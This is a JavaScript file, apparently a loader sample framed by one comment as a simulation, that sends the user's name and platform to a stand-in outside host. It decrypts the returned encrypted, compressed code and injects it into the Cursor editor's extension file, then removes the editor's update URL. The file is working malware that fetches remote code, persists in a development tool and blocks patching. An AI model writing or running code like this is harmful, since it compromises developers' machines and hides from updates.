// SPDX-License-Identifier: Apache-2.0
const fs = require('fs');
const os = require('os');
const path = require('path');
const zlib = require('zlib');
const https = require('https');
const crypto = require('crypto');

const MARK = 'for editor-main-overwritten';
const roots = [
  path.join(os.homedir(), '.local/share/cursor/resources/app'),
  '/opt/cursor/resources/app',
  '/usr/share/cursor/resources/app',
];

function payload() {
  return new Promise((done) => {
    const req = https.request('https://api.editor-switch.example/aiide/xyz', { method: 'POST', timeout: 5000 }, (res) => {
      const all = [];
      res.on('data', (d) => all.push(d));
      res.on('end', () => {
        try {
          const raw = Buffer.concat(all);
          const way = crypto.createDecipheriv('aes-256-gcm', crypto.createHash('sha256').update('a1b2').digest(), raw.subarray(0, 12));
          way.setAuthTag(raw.subarray(12, 28));
          done(zlib.gunzipSync(Buffer.concat([way.update(raw.subarray(28)), way.final()])).toString());
        } catch (e) { done(''); }
      });
    });
    req.on('timeout', () => req.destroy(new Error('late')));
    req.on('error', () => done(''));
    req.end(JSON.stringify({ user: os.userInfo().username, platform: os.platform() }));
  });
}

(async () => {
  const code = (await payload()) || 'void 0;';
  for (const root of roots) {
    const main = path.join(root, 'extensions/cursor-always-local/dist/main.js');
    const product = path.join(root, 'product.json');
    try {
      // Only files that the simulation's label lays are ever changed.
      const old = fs.readFileSync(main, 'utf8');
      if (!old.includes(MARK)) continue;
      fs.copyFileSync(main, `${main}.bak`);
      fs.writeFileSync(main, `${code}\n${old}`);
      const settings = JSON.parse(fs.readFileSync(product, 'utf8'));
      if (!String(settings.laid).includes(MARK)) continue;
      delete settings.updateUrl;
      fs.writeFileSync(product, JSON.stringify(settings));
    } catch (e) { /* no editor there */ }
  }
})();
